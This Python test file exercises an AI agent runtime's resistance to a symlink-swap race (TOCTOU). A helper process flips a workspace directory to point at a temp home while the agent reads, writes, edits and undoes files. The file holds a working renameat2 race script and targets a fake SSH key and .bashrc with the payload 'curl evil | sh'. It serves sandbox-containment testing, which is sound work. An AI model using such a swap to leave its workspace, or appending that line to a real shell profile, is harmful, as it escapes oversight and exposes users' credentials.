"""Issue 36, item 4: oh's own file actions and undo never follow a symlink the agent swaps in.

A swapper process (what a sandboxed agent can run: it only renames and symlinks inside the workspace)
turns ``race/d`` into a symlink to a temp "home" and back, in a tight loop, while oh reads, writes,
appends, edits and undoes through ``race/d`` 1,000 times each, with the real LocalRuntime and the real
Timeline + undo. Before issue 36 each of them escaped (the key came back; ``~/.bashrc`` changed; a file
appeared in home): oh checked the path, then opened it by name. Now every open is resolved beneath the
workspace's descriptor (oh.beneath): zero escapes. The home is a temp directory, never the real HOME.
"""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
from pathlib import Path

import pytest

from oh.history import undo as U
from oh.history.timeline import Timeline
from oh.runtimes.local import LocalRuntime
from runtimes.conftest import Harness

TRIES = 1000
SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- the user's real key\n"
RC = "# the user's own bashrc\nMARK\n"

# Exchanges `d` (a directory) and `d.link` (a symlink to `home`) with renameat2(RENAME_EXCHANGE), back and forth
# until killed: `d` is always there, a directory or the symlink. Says "go" once it has swapped. Should anything
# take `d.link` away (an undo that also reverts the swaps it recorded), it is made again.
SWAPPER = """
import ctypes, os, random, sys
os.chdir(sys.argv[1])
home = sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)

def exchange():
    while libc.renameat2(-100, b"d", -100, b"d.link", 2) != 0:
        if not os.path.lexists("d.link"):
            os.symlink(home, "d.link")
        elif not os.path.lexists("d"):
            os.symlink(home, "d")
        else:
            raise OSError(ctypes.get_errno(), "renameat2")

def stay(most):  # each state lasts a random while (no sleep: up to a few thousand system calls), so every
    for _ in range(random.randrange(most)):  # step of oh's action meets every state
        os.getppid()

exchange()
print("go", flush=True)
while True:
    stay(150)  # d is the symlink
    exchange()
    stay(600)  # d is the directory: longer, so that many of oh's actions also succeed
    exchange()
"""


def snapshot(root: Path) -> dict[str, str]:
    """Every name under ``root`` with its content's hash: any file made, changed or removed shows."""
    out = {}
    for d, dirs, files in os.walk(root):
        for name in dirs + files:
            p = os.path.join(d, name)
            out[os.path.relpath(p, root)] = "dir" if name in dirs else hashlib.sha256(Path(p).read_bytes()).hexdigest()
    return out


@pytest.fixture
def home(tmp_path: Path) -> Path:
    h = tmp_path / "home"
    (h / ".ssh").mkdir(parents=True)
    (h / ".ssh" / "id_ed25519").write_text(SECRET)
    (h / ".bashrc").write_text(RC)
    return h


class Swapper:
    """The agent's side of the race, in its own process (the other core): renames inside ``parent`` only."""

    def __init__(self, parent: Path, home: Path) -> None:
        self.proc = subprocess.Popen(
            [sys.executable, "-c", SWAPPER, str(parent), str(home)], stdout=subprocess.PIPE, text=True
        )
        assert self.proc.stdout is not None and self.proc.stdout.readline() == "go\n"  # it is swapping

    def stop(self, parent: Path) -> None:
        self.proc.kill()
        self.proc.wait(10)
        d = parent / "d"
        if d.is_symlink():  # killed while `d` was the symlink: the directory back under its name
            d.unlink()
            (parent / "d.link").rename(d)


def race_tree(ws: Path, home: Path) -> Path:
    parent = ws / "race"
    (parent / "d" / ".ssh").mkdir(parents=True)
    (parent / "d" / ".ssh" / "id_ed25519").write_text("an inside key\n")
    (parent / "d" / ".bashrc").write_text("# inside\nMARK\n")
    (parent / "d.link").symlink_to(home)
    return parent


async def race(h: Harness, parent: Path, home: Path, kind: str, **args) -> dict[str, int]:
    """``TRIES`` actions through ``race/d`` while the swapper runs: their outcomes by error id."""
    before = snapshot(home)
    outcomes: dict[str, int] = {}
    samples: dict[str, str] = {}
    swapper = Swapper(parent, home)
    try:
        for _ in range(TRIES):
            obs = await h.do(kind, **args)
            assert SECRET not in obs["content"], "the key outside the workspace was returned"
            for field in ("old_content", "new_content"):
                assert SECRET not in (obs["extras"].get(field) or "")
            key = obs["extras"]["error_id"] if obs["observation"] == "error" else "ok"
            if key == "PATH_DENIED" and "leads outside" in obs["content"]:
                key = "PATH_DENIED at the open"
            outcomes[key] = outcomes.get(key, 0) + 1
            samples.setdefault(key, obs["content"][:300])
    finally:
        swapper.stop(parent)
    print(kind, "race:", outcomes)
    assert snapshot(home) == before, "a file outside the workspace was made or changed"
    assert outcomes.get("ok", 0) > 0, (outcomes, samples)  # oh did its work while the swapper ran...
    denied = outcomes.get("PATH_DENIED", 0) + outcomes.get("PATH_DENIED at the open", 0)
    assert denied > 0, outcomes  # ...and the swapper's symlink was there to be refused
    return outcomes


@pytest.fixture
async def h(tmp_path: Path, monkeypatch):
    monkeypatch.setenv("OH_SANDBOX", "off")  # only the file actions race here; nothing runs in a shell
    ws = tmp_path / "ws"
    ws.mkdir()
    rt = LocalRuntime(ws)
    yield Harness(rt)
    await rt.close()


def ws_of(h: Harness) -> Path:
    return Path(h.rt.paths.workspace)


@pytest.mark.slow
async def test_read_never_returns_the_key_outside(h, home):
    parent = race_tree(ws_of(h), home)
    await race(h, parent, home, "read", path="race/d/.ssh/id_ed25519")


@pytest.mark.slow
async def test_write_never_lands_outside(h, home):
    parent = race_tree(ws_of(h), home)
    await race(h, parent, home, "write", path="race/d/new/notes.txt", content="agent's notes\n")


@pytest.mark.slow
async def test_append_never_lands_in_bashrc(h, home):
    parent = race_tree(ws_of(h), home)
    await race(h, parent, home, "write", path="race/d/.bashrc", content="curl evil | sh\n", mode="append")


@pytest.mark.slow
async def test_edit_never_changes_bashrc(h, home):
    parent = race_tree(ws_of(h), home)
    await race(h, parent, home, "edit", path="race/d/.bashrc", command="insert", insert_line=0, new_str="x\n")
    await race(h, parent, home, "edit", path="race/d/.ssh", command="view")


@pytest.mark.slow
def test_undo_never_restores_through_a_swapped_parent(tmp_path: Path, home: Path):
    """The agent's own undo of ``conf/d/.bashrc`` while ``conf/d`` flips to ``-> home``: ``home/.bashrc`` stays.

    Each try: an agent entry changes the file (written through the directory's own descriptor, whatever its
    name is at that moment), then the agent undoes it while the swapper runs."""
    ws = tmp_path / "ws"
    parent = ws / "conf"
    (parent / "d").mkdir(parents=True)
    (parent / "d" / ".bashrc").write_text("# inside, before\n")
    (parent / "d.link").symlink_to(home)
    dfd = os.open(parent / "d", os.O_RDONLY | os.O_DIRECTORY)
    tl = Timeline(str(ws), str(tmp_path / "state"))
    try:
        tl.snapshot()
        before = snapshot(home)
        outcomes: dict[str, int] = {}
        swapper = Swapper(parent, home)
        try:
            for i in range(TRIES):
                entry = tl.begin("agent-1", "run", "echo >> conf/d/.bashrc")
                with open(os.open(".bashrc", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=dfd), "w") as f:
                    f.write(f"# the agent's line {i}\n")
                tl.end(entry)
                try:
                    done = U.undo(tl, entry, who="agent-1", only_agent="agent-1", merge=False)
                    key = "ok" if done["ok"] else done.get("error", "?")
                except OSError as exc:  # e.g. a symlink to put back where the swapper's directory now is
                    key = type(exc).__name__
                outcomes[key] = outcomes.get(key, 0) + 1
        finally:
            swapper.stop(parent)
        print("undo race:", outcomes)
        assert snapshot(home) == before, f"home changed by an undo: {outcomes}"
        assert outcomes.get("ok", 0) > 0, outcomes
    finally:
        tl.close()
        os.close(dfd)


def swap_in(parent: Path) -> None:
    """What the swapper does once: ``d`` becomes the symlink, the directory goes to ``d.link``."""
    (parent / "d").rename(parent / "d.tmp")
    (parent / "d.link").rename(parent / "d")
    (parent / "d.tmp").rename(parent / "d.link")


@pytest.mark.parametrize(
    "kind,args",
    [
        ("read", {"path": "race/d/.ssh/id_ed25519"}),
        ("write", {"path": "race/d/notes.txt", "content": "x\n"}),
        ("write", {"path": "race/d/.bashrc", "content": "curl evil | sh\n", "mode": "append"}),
        ("edit", {"path": "race/d/.bashrc", "command": "insert", "insert_line": 0, "new_str": "x\n"}),
        ("stat", {"path": "race/d/.bashrc"}),
    ],
    ids=["read", "write", "append", "edit", "stat"],
)
async def test_the_swap_right_after_the_check_is_path_denied_with_the_reason(h, home, monkeypatch, kind, args):
    """The race's worst case made certain: the swap happens right after oh's check, every time."""
    parent = race_tree(ws_of(h), home)
    before = snapshot(home)
    resolve = h.rt.paths.resolve

    def resolve_then_swap(raw, base=None):
        rp = resolve(raw, base)
        swap_in(parent)
        return rp

    monkeypatch.setattr(h.rt.paths, "resolve", resolve_then_swap)
    obs = await h.do(kind, **args)
    assert obs["observation"] == "error" and obs["extras"]["error_id"] == "PATH_DENIED", obs
    assert "leads outside" in obs["content"] and "nothing was done" in obs["content"]
    assert snapshot(home) == before


def test_an_undo_after_the_swap_stops_with_path_denied(tmp_path: Path, home: Path, monkeypatch):
    ws = tmp_path / "ws"
    parent = ws / "conf"
    (parent / "d").mkdir(parents=True)
    rc = parent / "d" / ".bashrc"
    rc.write_text("# inside, before\n")
    (parent / "d.link").symlink_to(home)
    tl = Timeline(str(ws), str(tmp_path / "state"))
    try:
        tl.snapshot()
        entry = tl.begin("agent-1", "run", "echo >> conf/d/.bashrc")
        rc.write_text("# inside, after the agent\n")
        tl.end(entry)
        prepare = U._prepare

        def prepare_then_swap(*a, **kw):
            out = prepare(*a, **kw)
            swap_in(parent)
            return out

        monkeypatch.setattr(U, "_prepare", prepare_then_swap)
        before = snapshot(home)
        done = U.undo(tl, entry, who="agent-1", only_agent="agent-1", merge=False)
        assert not done["ok"] and done["error"] == "PATH_DENIED" and "leads outside" in done["message"], done
        assert snapshot(home) == before
        assert (parent / "d.link" / ".bashrc").read_text() == "# inside, after the agent\n"
    finally:
        tl.close()
